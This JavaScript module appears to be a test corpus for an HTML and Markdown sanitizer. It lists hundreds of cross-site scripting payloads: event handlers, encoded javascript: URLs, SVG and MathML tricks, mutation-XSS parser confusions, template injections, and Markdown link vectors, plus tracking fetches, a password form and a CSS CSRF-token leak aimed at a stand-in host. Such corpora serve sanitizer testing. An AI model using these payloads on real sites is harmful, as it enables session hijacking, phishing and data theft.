// Words that want to be more than words. What each of them would do is call `sentinel()`, or ask `elsewhere.example` for something,
// or show a form. Our own set: families are made of elements, handlers, spellings and addresses; the rest is written by hand after
// the ways that are publicly known.

const AWAY = 'https://elsewhere.example';

// Handlers that an element may have, whether they fire by themselves or when somebody does something.
const HANDLERS = `abort afterprint afterscriptexecute animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
  beforeprint beforescriptexecute beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click close contextmenu copy
  cuechange cut dblclick drag dragend dragenter dragover dragstart drop durationchange end ended error finish focus focusin focusout
  formdata hashchange input invalid keydown keypress keyup load loadeddata loadstart message mousedown mouseenter mousemove mouseout
  mouseover mouseup pageshow paste play playing pointerdown pointerenter pointermove pointerover popstate progress ratechange repeat
  reset resize scroll scrollend search securitypolicyviolation seeked select selectionchange selectstart show start submit suspend
  timeupdate toggle touchstart transitionend transitionrun unhandledrejection unload volumechange waiting webkitanimationend wheel`.split(/\s+/);
const handlers = HANDLERS.map((name) => `<b tabindex=1 on${name}=sentinel()>pause</b>`);

// An image that does not load, in the spellings that a parser may read in another way than a browser.
const spellings = [
  '<img src=x onerror=sentinel()>', '<IMG SRC=x ONERROR=sentinel()>', '<img/src=x/onerror=sentinel()>', '<img src=x onerror="sentinel()">',
  "<img src=x onerror='sentinel()'>", '<img src="x"onerror="sentinel()">', '<img\tsrc=x\tonerror=sentinel()>', '<img\nsrc=x\nonerror\n=\nsentinel()\n>',
  '<img src=x onerror=&#115;entinel()>', '<img src=x onerror=&#x73;entinel&lpar;&rpar;>', '<img src=x onerror="sentinel&#40;&#41;">',
  '<img src=x:x onerror=sentinel`1`>', '<img src onerror=sentinel()>', '<img """><img src=x onerror=sentinel()>">', '<img src=x onerror=sentinel() ',
  '<img src=x onerror=sentinel()//', '<img src=x alt="`onerror=sentinel()" onerror=sentinel()>', '<img src=x onerror=sentinel() onerror=alert()>',
  '<<img src=x onerror=sentinel()>', '< img src=x><img src=x onerror=sentinel()>', '<img src=x title=">" onerror=sentinel()>', '<image src=x onerror=sentinel()>',
  '<img src=x onerror=eval("sentinel()")>', '<img src=x onerror=window["sen"+"tinel"]()>', '<img src=x onerror=\\u0073entinel()>', '<img src=x onerror=top.sentinel()>',
];

// Elements that do something without being asked.
const elements = [
  '<body onload=sentinel()>', '<svg onload=sentinel()>', '<svg/onload=sentinel()>', '<video src=x onerror=sentinel()></video>',
  '<video><source onerror=sentinel()></video>', '<audio src=x onerror=sentinel()></audio>', '<details open ontoggle=sentinel()>more</details>',
  '<input autofocus onfocus=sentinel()>', '<select autofocus onfocus=sentinel()></select>', '<textarea autofocus onfocus=sentinel()></textarea>',
  '<button autofocus onfocus=sentinel()>go</button>', '<marquee onstart=sentinel()>run</marquee>', '<object data=x onerror=sentinel()></object>',
  '<embed src=x onload=sentinel()>', '<iframe onload=sentinel()></iframe>', '<link rel=stylesheet href=x onerror=sentinel()>',
  '<style onload=sentinel()></style>', '<script src=x onerror=sentinel()></script>', '<frameset onload=sentinel()>', '<isindex onfocus=sentinel()>',
  '<div contenteditable onblur=sentinel()>write</div>', '<a href=# onclick=sentinel()>look</a>', '<xss id=x tabindex=1 onactivate=sentinel()></xss>',
  '<dialog open onclose=sentinel()><form method=dialog><button>close</button></form></dialog>', '<track onload=sentinel()>', '<picture><img src=x onerror=sentinel()></picture>',
];

const scripts = [
  '<script>sentinel()</script>', '<SCRIPT>sentinel()</SCRIPT>', '<script >sentinel()</script >', '<script/x>sentinel()</script>', '<script\n>sentinel()</script\n>',
  '<script type=module>sentinel()</script>', '<script type="text/javascript">sentinel()</script>', '<script async defer>sentinel()</script>',
  '<script>sentinel()', '<script><!--\nsentinel()\n--></script>', '<script>/*<script>*/sentinel()</script>', '<svg><script>sentinel()</script></svg>',
  '<svg><script>&#115;entinel()</script></svg>', '<svg><script href="data:text/javascript,sentinel()"/></svg>', '<svg><script xlink:href="data:,sentinel()"/></svg>',
  '<math><script>sentinel()</script></math>', '<script src="data:text/javascript,sentinel()"></script>', `<script src=${AWAY}/x.js></script>`,
  '<script src=//elsewhere.example/x.js></script>', '<script src=\\\\elsewhere.example/x.js></script>', '<script nonce=x>sentinel()</script>',
  '<template><script>sentinel()</script></template>', '<div><template shadowrootmode=open><script>sentinel()</script></template></div>',
];

// Everything that takes an address, with every spelling of one that is a program.
const TAKERS = [
  (url) => `<a href="${url}">read</a>`, (url) => `<area href="${url}">`, (url) => `<iframe src="${url}"></iframe>`, (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`, (url) => `<form action="${url}"><input type=submit></form>`, (url) => `<button formaction="${url}">go</button>`,
  (url) => `<svg><a xlink:href="${url}"><text>read</text></a></svg>`, (url) => `<math><mi xlink:href="${url}">x</mi></math>`, (url) => `<img src="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`, (url) => `<base href="${url}">`,
];
const PROGRAMS = [
  'javascript:sentinel()', 'JaVaScRiPt:sentinel()', ' javascript:sentinel()', 'java\tscript:sentinel()', 'java&#10;script:sentinel()', '&#1;javascript:sentinel()',
  '&#106;avascript:sentinel()', '&#x6A&#x61;vascript:sentinel()', 'java&Tab;script&colon;sentinel()', 'javascript://x/%0Asentinel()', 'vbscript:sentinel()',
  'data:text/html,<script>sentinel()</script>', 'data:text/html;base64,PHNjcmlwdD5zZW50aW5lbCgpPC9zY3JpcHQ+',
];
const addresses = TAKERS.flatMap((taker) => PROGRAMS.map(taker));

// What a browser would fetch from somebody else, who would learn that the page was opened.
const fetches = [
  `<img src=${AWAY}/1>`, '<img src=//elsewhere.example/2>', '<img src="\\\\elsewhere.example/3">', '<img src="/\\elsewhere.example/4">', '<img src="/&#9;/elsewhere.example/5">',
  `<img srcset="${AWAY}/6 1x">`, `<picture><source srcset=${AWAY}/7><img></picture>`, `<video src=${AWAY}/8></video>`, `<video poster=${AWAY}/9></video>`,
  `<audio src=${AWAY}/10 autoplay></audio>`, `<video><source src=${AWAY}/11></video>`, `<video><track default src=${AWAY}/12></video>`, `<link rel=stylesheet href=${AWAY}/13>`,
  `<link rel=preload as=image href=${AWAY}/14>`, `<link rel=prefetch href=${AWAY}/15>`, `<link rel=icon href=${AWAY}/16>`, `<link rel=dns-prefetch href=${AWAY}>`,
  `<link rel=manifest href=${AWAY}/18>`, `<link rel=modulepreload href=${AWAY}/19>`, `<iframe src=${AWAY}/20></iframe>`, `<object data=${AWAY}/21></object>`, `<embed src=${AWAY}/22>`,
  `<input type=image src=${AWAY}/23>`, `<meta http-equiv=refresh content="0;url=${AWAY}/24">`, `<base href=${AWAY}/>`, `<table background=${AWAY}/26><tr><td>x</table>`,
  `<body background=${AWAY}/27>`, `<svg><image href=${AWAY}/28 /></svg>`, `<svg><use href=${AWAY}/29#x /></svg>`, `<svg><filter><feImage href=${AWAY}/30 /></filter></svg>`,
  `<frameset><frame src=${AWAY}/31></frameset>`, `<iframe srcdoc="<img src=${AWAY}/32>"></iframe>`, `<a href=/ ping=${AWAY}/33>look</a>`, `<img lowsrc=${AWAY}/34 dynsrc=${AWAY}/35>`,
];

const styles = [
  `<style>@import url(${AWAY}/a.css);</style>`, `<style>*{background:url(${AWAY}/b)}</style>`, `<div style="background:url(${AWAY}/c)">x</div>`, '<div style="width:expression(sentinel())">x</div>',
  '<div style="-moz-binding:url(data:text/xml,sentinel)">x</div>', '<div style="behavior:url(x.htc)">x</div>', '<div style="position:fixed;inset:0;z-index:9999">over all</div>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=sentinel()>x</b>', `<b style="background:\\75rl(${AWAY}/d)">x</b>`, `<style>input[name=csrf][value^=a]{background:url(${AWAY}/e)}</style>`,
  `<style>@font-face{font-family:x;src:url(${AWAY}/f)}</style>`, '<style></style><img src=x onerror=sentinel()><style></style>', `<p style="list-style-image:url('${AWAY}/g')">x</p>`,
];

const drawings = [
  '<svg><animate onbegin=sentinel() attributeName=x dur=1s>', '<svg><set onbegin=sentinel() attributeName=x>', '<svg><animateTransform onbegin=sentinel()>',
  '<svg><a><animate attributeName=href values=javascript:sentinel() /><text>x</text></a></svg>', '<svg><a><set attributeName=href to=javascript:sentinel() /><text>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=sentinel()></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>sentinel()</script></svg>#x" /></svg>',
  '<svg><title><img src=x onerror=sentinel()></title></svg>', '<svg><desc><img src=x onerror=sentinel()></desc></svg>', '<svg><style><img src=x onerror=sentinel()></style></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load onload=sentinel()>x</handler></svg>', '<svg xmlns:onload=x onload=sentinel()></svg>',
  '<math href=javascript:sentinel()>x</math>', '<math><maction actiontype=statusline xlink:href=javascript:sentinel()>x</maction></math>', '<math><annotation-xml encoding=text/html><img src=x onerror=sentinel()></annotation-xml></math>',
  '<math><mtext><img src=x onerror=sentinel()></mtext></math>',
];

// Harmless to one parser and harmful to the next.
const mutations = [
  '<noscript><style></noscript><img src=x onerror=sentinel()></style></noscript>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=sentinel()&gt;" onerror=sentinel()>',
  '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=sentinel() src>">', '<svg></p><style><a id="</style><img src=1 onerror=sentinel()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=sentinel()>', '<svg><p><style><g title="</style><img src onerror=sentinel()>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=sentinel()></style></annotation-xml></math>', '<xmp><p title="</xmp><img src=x onerror=sentinel()>">',
  '<noembed><p title="</noembed><img src=x onerror=sentinel()>">', '<noframes><p title="</noframes><img src=x onerror=sentinel()>">', '<plaintext><img src=x onerror=sentinel()></plaintext><script>sentinel()</script>',
  '<title><p title="</title><img src=x onerror=sentinel()>">', '<textarea><p title="</textarea><img src=x onerror=sentinel()>">', '<select><template><img src=x onerror=sentinel()></template></select><svg onload=sentinel()>',
  '<listing>&lt;img src=x onerror=sentinel()&gt;</listing><svg onload=sentinel()>', '<table><td><svg onload=sentinel()></table>', '<p id="a<b"><img alt="<x" title="/><img src=x onerror=sentinel()>"><svg onload=sentinel()>',
  '<!--><img src=x onerror=sentinel()>-->', '<!--><svg onload=sentinel()>', '<!-- --!><img src=x onerror=sentinel()>',
  '<!foo bar="--><img src=x onerror=sentinel()>', '<?xml version="1.0"?><img src=x onerror=sentinel()>', '<?foo ><img src=x onerror=sentinel()>?>', '</ foo><img src=x onerror=sentinel()>',
];

// Out of the place where the words are put.
const outbreaks = [
  '"><img src=x onerror=sentinel()>', "'><img src=x onerror=sentinel()>", '`><img src=x onerror=sentinel()>', '--><img src=x onerror=sentinel()>', ']]><img src=x onerror=sentinel()>',
  '</title><svg onload=sentinel()>', '</textarea><svg onload=sentinel()>', '</style><svg onload=sentinel()>', '</script><svg onload=sentinel()>', '</option></select><svg onload=sentinel()>',
  '</div></li></ol></section></main><form action=//elsewhere.example><input name=password>', '</body></html><svg onload=sentinel()>', '&lt;p&gt;<svg onload=sentinel()>', '</a></h1></td></table><svg onload=sentinel()>',
  '</code></pre><svg onload=sentinel()>', '</ins></del><svg onload=sentinel()>',
];

const forms = [
  `<form action=${AWAY}><input name=password><button>Go</button></form>`, '<form><input name=login></form>', '<input type=password>', '<textarea>type here</textarea>', '<select><option>a</select>',
  '<form id=t></form><button form=t formaction=javascript:sentinel()>go</button>', `<button formaction=${AWAY}>go</button>`, `<input type=submit formaction=${AWAY}>`, '<form method=dialog><input></form>',
  '<form id=x tabindex=0 onfocus=sentinel()><input id=attributes></form>', '<form><isindex type=image formaction=javascript:sentinel()></form>', '<keygen autofocus onfocus=sentinel()>',
];

// Every one of them, served as it is, is found by counting.
export const markup = [
  ...handlers, ...spellings, ...elements, ...scripts, ...addresses, ...fetches, ...styles, ...drawings, ...mutations, ...outbreaks, ...forms,
];

// What a filter that takes pieces away, decodes, or fills in templates would make harmful; or a parser that is not the browser's.
const pieces = [
  '<noscript><p title="</noscript><script>sentinel()</script>"></noscript>', '<svg><![CDATA[><img src=x onerror=sentinel()>]]>', '<!--!><img src=x onerror=sentinel()>',
  '<scr<script>ipt>sentinel()</scr</script>ipt>', '<<script>script>sentinel()<</script>/script>', '&lt;script&gt;sentinel()&lt;/script&gt;', '&amp;lt;script&amp;gt;sentinel()&amp;lt;/script&amp;gt;',
  '%3Cscript%3Esentinel()%3C/script%3E', '\\x3cscript\\x3esentinel()\\x3c/script\\x3e', '\\u003cscript\\u003esentinel()\\u003c/script\\u003e', '+ADw-script+AD4-sentinel()+ADw-/script+AD4-',
  '＜script＞sentinel()＜/script＞', '<ſcript>sentinel()</ſcript>', '¼script¾sentinel()¼/script¾', '{{constructor.constructor("sentinel()")()}}', '{{ "<script>sentinel()</script>" | safe }}', '{% raw %}<script>{% endraw %}',
  '${sentinel()}', '<%= "<script>sentinel()</script>" %>', "';sentinel();//", '";sentinel();//', '*/sentinel()/*', 'javascript:sentinel()', 'data:text/html,<script>sentinel()</script>', 'feed:javascript:sentinel()',
];

// Markdown that a converter may turn into markup.
const IN_LINKS = [...PROGRAMS.filter((url) => !/[\s<]/.test(url)), 'Javascript&#58;sentinel()', 'javas\\cript:sentinel()', 'data:image/svg+xml,x', '<javascript:sentinel()>', '<java\tscript:sentinel()>'];
const source = [
  ...IN_LINKS.map((url) => `[read](${url})`), ...IN_LINKS.map((url) => `![see](${url})`), ...IN_LINKS.map((url, at) => `[read][r${at}]\n\n[r${at}]: ${url}`),
  '<javascript:sentinel()>', '<https://x.example/"onmouseover="sentinel()>', '[a](https://x.example "\\" onmouseover=sentinel() x=\\"")', '[a](https://x.example/"onmouseover=sentinel())',
  "![x](/a.png 'x\" onerror=\"sentinel()')", '![x" onerror="sentinel()](/nothing.png)', '![<img src=x onerror=sentinel()>](javascript:sentinel())', '[<img src=x onerror=sentinel()>](https://x.example)',
  `![pixel](${AWAY}/p.png)`, '![pixel](//elsewhere.example/p.png)', '![pixel](</\\elsewhere.example/p.png>)', '![pixel](/&#9;/elsewhere.example/p.png)', '![pixel](https:elsewhere.example/p.png)', '![pixel](http://elsewhere.example/p.png)',
  `[![pixel](${AWAY}/q.png)](javascript:sentinel())`, '`<img src=x onerror=sentinel()>`', '```"><script>sentinel()</script>\nx\n```', '    <script>sentinel()</script>', '# <svg onload=sentinel()>', '## x <script>sentinel()</script>',
  '| a | <img src=x onerror=sentinel()> |\n|---|---|\n| [x](javascript:sentinel()) | y |', '> <svg onload=sentinel()>', '1. <img src=x onerror=sentinel()>', '~~<svg onload=sentinel()>~~', 'https://x.example/<svg/onload=sentinel()>',
  'www.x.example/"onclick="sentinel()', 'sentinel@x.example"onclick="sentinel()', '\\<script>sentinel()\\</script>', '&#60;script&#62;sentinel()&#60;/script&#62;', '[a](<https://x.example> "<svg onload=sentinel()>")',
];

export const vectors = [...markup, ...pieces, ...source];
